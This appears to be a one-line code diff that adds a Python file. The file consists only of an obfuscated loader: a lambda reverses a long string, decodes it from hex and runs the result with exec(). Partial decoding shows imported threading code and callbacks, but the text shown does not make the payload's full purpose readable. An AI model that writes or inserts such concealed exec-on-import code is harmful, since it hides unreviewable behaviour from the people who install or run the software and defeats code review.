@@ -0,0 +1 @@
+_ = lambda __ : bytes.fromhex(__[::-1]);exec((_)( "a09222d756b702d5272756022756e656473796c60247e656d656c647475637b522668247e6962707020202020202020202020202a0a35602371602e6f696470756368754024707563687560202020202020202a09282b6361626c6c61636020202020202020202020202a0a39727470202020202020202a0a3372756e656473796c602e69602b6361626c6c616360227f66602020202a092372756e656473796c6f547e656d656c647475637f582473796c602d302372756e656473796c60202020202020202a0a3b636f6c6f5028647967702020202a0a3928247e656d656c647475637f597669647f6e602665646a0a0a092b6361626c6c61636825667f6d65627e2372756e656473796c6f547e656d656c647475637f5020202020202020202020202a0a3372756e656473796c6f547e656d656c647475637f502e69602b6361626c6c616360266960202020202020202a0a3b636f6c6f5028647967702020202a0a392b6361626c6c61636822756e656473796c6f547e656d656c647475637f52756473796765627e65702665646a0a0a092b6361626c6c616368246e656070716e2372756e656473796c6f547e656d656c647475637f5020202020202020202020202a0a3372756e656473796c6f547e656d656c647475637f502e6960247f6e602b6361626c6c616360266960202020202020202a0a3b636f6c6f5028647967702020202a0222222e24656c696166602473756571756270256864702e656867702f637c61602c24737565717562702d65656465627f247e656d656c6474756370297275667560227564766160237e65727029282b6361626c6c6163622222202020202a0a392b6361626c6c61636822756e656473796c6f547e656d656c647475637f5275647379676562702665646a0a0a0d5b502d302372756e656473796c6f547e656d656c647475637f5a09282b636f6c4e276e69646165627864702d302b636f6c6f5a0a0e2d656864702374727f607d6960227566756e60247e65696c6360256864702f63702c256275686025626962736372657370232a0921647f65717f25636e616c6162602462716f6268637164602c237e6f6964707f60276f6c61647163682025647164737024716864702568636163602471686470237563696672756350232a0e25647164737025646963702275667275637025676e61686360247168647023747e65667560227564766160237e657270227569716c60247e65696c636025686470237b6361626c6c616340232a0a076e696461656278647024727f607d696" ));